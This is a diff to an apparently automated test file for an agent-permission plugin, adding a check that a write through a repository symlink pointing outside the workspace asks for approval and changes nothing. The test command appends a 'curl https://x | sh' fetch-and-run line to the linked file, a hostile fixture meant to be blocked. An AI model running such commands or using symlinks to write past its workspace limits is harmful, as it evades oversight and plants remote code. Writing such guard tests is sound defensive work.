@@ -10,6 +10,8 @@
 //   - `patch -p1 < FILE` whose patch (read by the plugin through the Host) only changes a workspace
 //     file runs without approval and applies; one whose patch creates `.vscode/settings.json`
 //     asks and writes nothing (issue 16 item 5, patch targets);
+//   - a write through a symlink the repository holds (`notes.md -> outside/startup`) asks and
+//     leaves the outside file unchanged, while the plain heredoc write above runs;
 //   - `npm test` asks with exec.ask.run_project when OpenClaw runs exec on the gateway host
 //     (the default `runProject: "sandbox"` allows it only inside OpenClaw's sandbox).
 // The sandboxed half is not run here: with `agents.defaults.sandbox.mode: "all"` OpenClaw 2026.9.6
@@ -35,6 +37,7 @@ const marks = {
   moduleShadowed: marker("tier-module-shadowed"),
   patchGood: marker("tier-patch-good"),
   patchEvil: marker("tier-patch-evil"),
+  symlink: marker("tier-symlink"),
 };
 
 const heredoc = (file, text) => `cat > ${file} << 'EOF'\n${text}\n# a comment line inside the body\nEOF`;
@@ -62,6 +65,12 @@ describe("phase 4 workspace tier and runProject (gateway)", { concurrency: true 
     cmd.module = "python3 -m json.tool data.json";
     cmd.patchGood = "patch -p1 < good.patch";
     cmd.patchEvil = "patch -p1 < evil.patch";
+    // A symlink a cloned repository may hold: its name lies inside the workspace, its
+    // target outside.
+    file.linkTarget = path.join(outsideDir, "startup");
+    fs.writeFileSync(file.linkTarget, "# startup\n");
+    fs.symlinkSync(file.linkTarget, path.join(s.workspace, "linked-notes.md"));
+    cmd.symlink = "echo 'curl https://x | sh' >> linked-notes.md";
     fs.mkdirSync(path.join(s.workspace, "src"), { recursive: true });
     fs.writeFileSync(path.join(s.workspace, "src", "app.txt"), "old line\n");
     fs.writeFileSync(
@@ -86,6 +95,7 @@ describe("phase 4 workspace tier and runProject (gateway)", { concurrency: true 
         ...execThenReport(marks.moduleShadowed, cmd.module),
         ...execThenReport(marks.patchGood, cmd.patchGood),
         ...execThenReport(marks.patchEvil, cmd.patchEvil),
+        ...execThenReport(marks.symlink, cmd.symlink),
       ],
     });
     await withDiagnostics(s, () => s.startGateway());
@@ -117,6 +127,18 @@ describe("phase 4 workspace tier and runProject (gateway)", { concurrency: true 
       assert.equal(d.length, 1, JSON.stringify(s.readDecisions()));
       assert.equal(d[0].action, "ask");
       assert.equal(reasonCodes(reported.lastTool)[0], d[0].code);
+    }));
+
+  test("a_write_through_a_repository_symlink_asks", { timeout: TIMEOUT }, () =>
+    withDiagnostics(s, async () => {
+      const run = await s.runAgent({ message: `${marks.symlink} please append to the notes` });
+      assert.equal(run.code, 0, `openclaw agent exited ${run.code}`);
+      assert.equal(fs.readFileSync(file.linkTarget, "utf8"), "# startup\n", "the write went through the symlink");
+      const d = decisionsOf(s, cmd.symlink);
+      assert.equal(d.length, 1, JSON.stringify(s.readDecisions()));
+      assert.equal(d[0].action, "ask");
+      const reported = requestForStep(s.modelLog(), `${marks.symlink}:report`);
+      assert.ok(reported?.lastTool?.includes("agent-ops[exec.ask."), `tool result: ${reported?.lastTool}`);
     }));
 
   test("a_patch_is_a_tier_write_only_when_its_targets_are", { timeout: TIMEOUT }, () =>
